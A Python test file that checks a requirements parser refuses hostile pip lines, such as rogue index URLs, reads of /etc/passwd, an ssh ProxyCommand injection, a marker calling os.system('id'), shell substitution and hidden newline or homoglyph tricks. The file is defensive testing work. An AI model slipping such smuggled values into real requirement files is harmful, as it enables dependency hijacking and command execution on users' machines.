"""The policy for requirement lines: what never reaches pip on behalf of a model."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from packaging.requirements import Requirement

from palate._environment.recorded import read_recorded
from palate._environment.requirements import merge_requirements, parse_constraints, parse_requirements, refuse_conflicts
from palate.errors import InvalidOption, InvalidRequirement

COMMIT = "0123456789abcdef0123456789abcdef01234567"

HOSTILE = {
    "R01": "--index-url https://evil.example/simple",
    "R02": "--extra-index-url=https://evil.example/simple",
    "R03": "-i https://evil.example/simple",
    "R04": "-e git+https://evil.example/x.git#egg=x",
    "R05": "-r /etc/passwd",
    "R06": "-c constraints.txt",
    "R07": "--find-links /tmp",
    "R08": "--trusted-host evil.example",
    "R09": "--no-binary :all:",
    "R10": "foo==1 --config-settings build=x",
    "R10 short": "foo==1 -C build=x",
    "R10 hash": "foo==1 --hash=sha256:" + "0" * 64,
    "R11": "foo @ file:///etc/passwd",
    "R12 branch": "foo @ git+https://example.com/foo.git@main",
    "R12 none": "foo @ git+https://example.com/foo.git",
    "R12 short": "foo @ git+https://example.com/foo.git@0123456",
    "R12 file": f"foo @ git+file:///tmp/foo@{COMMIT}",
    "R12 plain": f"foo @ git+http://example.com/foo@{COMMIT}",
    "R12 bare git": f"foo @ git+git://example.com/foo@{COMMIT}",
    "R12 password": f"foo @ git+https://user:hunter2@example.com/foo@{COMMIT}",
    "R12 token": f"foo @ git+https://hunter2@example.com/foo@{COMMIT}",
    "R12 ssh user": f"foo @ git+ssh://root@example.com/foo@{COMMIT}",
    "R12 ssh option": f"foo @ git+ssh://git@-oProxyCommand=touch/foo@{COMMIT}",
    "R12 up": f"foo @ git+https://example.com/a/../../foo@{COMMIT}",
    "R12 folder": f"foo @ git+https://example.com/foo@{COMMIT}#subdirectory=../../x",
    "R12 egg": f"foo @ git+https://example.com/foo@{COMMIT}#egg=bar",
    "R12 query": f"foo @ git+https://example.com/foo?x=1@{COMMIT}",
    "R12 hg": f"foo @ hg+https://example.com/foo@{COMMIT}",
    "R13": "foo @ http://example.com/foo-1-py3-none-any.whl",
    "R13 https": "foo @ https://example.com/foo-1-py3-none-any.whl",
    "R13 plain": "https://example.com/foo-1-py3-none-any.whl",
    "R14": "foo==1.0 \\",
    "R15": "${HOME}",
    "R15 in version": "foo===${HOME}",
    "R16": "foo==1; __import__('os').system('id')",
    "R17": "foo==1\r--index-url https://evil.example/simple",
    "R17 newline": "foo==1\n--index-url https://evil.example/simple",
    "R17 comment": "foo==1 # a comment\x0b--index-url https://evil.example/simple",
    "R18": "foo==1\u2028--index-url https://evil.example/simple",
    "R18 next line": "foo==1\x85--index-url https://evil.example/simple",
    "R18 direction": "foo==1\u202e",
    "R19": "./local.whl",
    "R19 name": "local.whl",
    "R19 sdist": "local.tar.gz",
    "R19 extra": "local.zip[x]",
    "R19 marker": "local.zip ; python_version > '3'",
    "R19 version": "foo===1.zip",
    "R20": "s\u0456x==1.17.0",
    "R21": "name[../../x]",
    "R21 backslash": "..\\x",
    "R24 long": "foo==" + "1" * 100_000,
    "NUL": "foo==1\x00",
    "name": "foo_",
    "shell": "foo===1;$(touch marker)",
    "backquote": "foo===`id`",
    "marker compares nonsense": "foo==1; os_name ~= 'posix'",
}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_line_is_refused(case: str) -> None:
    """A line that is more, or other, than one plain requirement is refused by a typed error."""
    with pytest.raises(InvalidRequirement, match="refused"):
        parse_requirements([HOSTILE[case]])


@pytest.mark.parametrize(
    ("case", "hint"),
    [
        ("R04", "code_paths="),
        ("R11", "install the file and write name==version"),
        ("R12 branch", "name the commit, or a version that an index has"),
        ("R14", "the whole requirement on one line"),
        ("R15", "what the variable stands for"),
        ("R17", "type the line anew"),
        ("R19", "install the file and write name==version"),
        ("R19 name", "install the file and write name==version"),
        ("R20", "how its name is spelt"),
        ("marker compares nonsense", "python_version < '3.13'"),
        ("R13 plain", "one 'name==version' per line"),
    ],
)
def test_hint_is_of_what_was_refused(case: str, hint: str) -> None:
    """Each kind of line is answered with what to write in its place."""
    with pytest.raises(InvalidRequirement) as caught:
        parse_requirements([HOSTILE[case]])
    assert hint in str(caught.value).partition(" Hint: ")[2]


def test_hundred_thousand_lines_are_refused() -> None:
    """R24: nobody's environment has that many lines."""
    with pytest.raises(InvalidRequirement, match="1000 lines"):
        parse_requirements(f"foo{number}==1" for number in range(100_000))


def test_a_line_that_does_not_count_here_replaces_nothing() -> None:
    """What is asked for on another system alone leaves what was found as it is; a line for here takes its place."""
    found = parse_requirements(["a==1", "b==1"])
    later = parse_requirements(["a; sys_platform == 'win32'", "b>=0"])
    assert list(map(str, merge_requirements(found, later))) == ['a; sys_platform == "win32"', "a==1", "b>=0"]


def test_password_is_not_shown() -> None:
    """A refused URL is shown without the password in it."""
    with pytest.raises(InvalidRequirement) as caught:
        parse_requirements([HOSTILE["R12 password"]])
    assert "hunter2" not in str(caught.value)
    assert "hunter2" not in caught.value.line


@pytest.mark.parametrize(
    "line",
    [
        "numpy",
        "numpy==2.4.6",
        "scikit-learn>=1.5,<2",
        "ray[serve,data]==2.9.0",
        "six==1.*",
        "foo==1.0; python_version < '3.12' and sys_platform == 'linux'",
        "old===2004d",
        "epoch==1!2.0.post1",
        f"foo @ git+https://example.com/team/foo.git@{COMMIT}",
        f"foo @ git+https://example.com:8443/foo@{COMMIT}#subdirectory=python/pkg",
        f"foo @ git+ssh://git@example.com/team/foo.git@{COMMIT}",
    ],
)
def test_plain_requirement_is_kept(line: str) -> None:
    """What PEP 508 allows and the policy admits comes back with the same meaning."""
    assert parse_requirements([line]) == (Requirement(line),)


def test_comments_and_blank_lines_are_left_out() -> None:
    """A requirements file may explain itself, in any language."""
    lines = ["# why: naïve Bayes", "", "  ", "numpy==2.0  # arrays", "\tpandas"]
    assert list(map(str, parse_requirements(lines))) == ["numpy==2.0", "pandas"]


@given(st.text(max_size=60))
def test_any_text_is_a_requirement_or_refused(line: str) -> None:
    """No text raises anything but InvalidRequirement, and what is accepted is one line that means the same again."""
    try:
        found = parse_requirements([line])
    except InvalidRequirement:
        return
    for requirement in found:
        assert len(str(requirement).splitlines()) == 1
        assert parse_requirements([str(requirement)]) == (requirement,)


@given(st.text(alphabet="abz09-_.=<>!~[],;@ '\"()*+:/#$\\%", max_size=40))
def test_any_requirement_like_text_is_a_requirement_or_refused(line: str) -> None:
    """The same for text made of the characters that requirements are made of."""
    test_any_text_is_a_requirement_or_refused.hypothesis.inner_test(line)  # type: ignore[attr-defined]


def test_two_pins_of_one_package_conflict() -> None:
    """Spelling does not hide that two lines pin one package differently."""
    with pytest.raises(InvalidRequirement, match="another line pins"):
        parse_requirements(["my_pkg==1.0", "My.Pkg==2.0"])


def test_pins_under_different_markers_do_not_conflict() -> None:
    """One package may have a pin for each version of Python."""
    lines = ["numpy==1.26; python_version < '3.12'", "numpy==2.0; python_version >= '3.12'"]
    assert len(parse_requirements(lines)) == 2


def test_open_range_does_not_conflict() -> None:
    """A range beside a pin narrows nothing that pip could not solve."""
    refuse_conflicts(parse_requirements(["numpy>=1.26", "numpy==2.0"]))


@pytest.mark.parametrize("line", ["numpy", "numpy==2.*", "numpy>=2"])
def test_only_a_pin_conflicts_with_a_pin(line: str) -> None:
    """R25: a wildcard or a range is no pin."""
    refuse_conflicts([*parse_requirements([line]), *parse_requirements(["numpy==2.0"])])


def test_later_replaces_earlier() -> None:
    """A package named later is taken from there alone, and the result is sorted by name."""
    base = parse_requirements(["Zlib==1", "scikit_learn==1.9.1"])
    later = parse_requirements(["scikit-learn==1.5.0", "abc"])
    assert list(map(str, merge_requirements(base, later))) == ["abc", "scikit-learn==1.5.0", "Zlib==1"]


@pytest.mark.parametrize(
    "line",
    [f"foo @ git+https://example.com/foo@{COMMIT}", "foo[extra]<2", HOSTILE["R11"], HOSTILE["R13"], HOSTILE["R06"]],
)
def test_constraint_is_a_bound_only(line: str) -> None:
    """R23: a constraint with a URL would install something, and one with an extra means nothing."""
    with pytest.raises(InvalidRequirement):
        parse_constraints([line])


@pytest.mark.parametrize("line", [*(HOSTILE[case] for case in HOSTILE if case != "R06"), "-c other.txt", "-c ../x.txt"])
def test_hostile_line_of_a_model_is_refused(tmp_path: Path, line: str) -> None:
    """R01 to R21: nor is it taken from a model, whose one option is the line that names its own constraints."""
    (tmp_path / "requirements.txt").write_bytes(line.encode())
    found = read_recorded(tmp_path)
    assert found.refused
    assert not any(requirement.url for requirement in found.requirements)


def test_item_that_is_not_text() -> None:
    """A requirement that is not text is named by its type."""
    with pytest.raises(InvalidOption, match="not int"):
        parse_requirements([1])
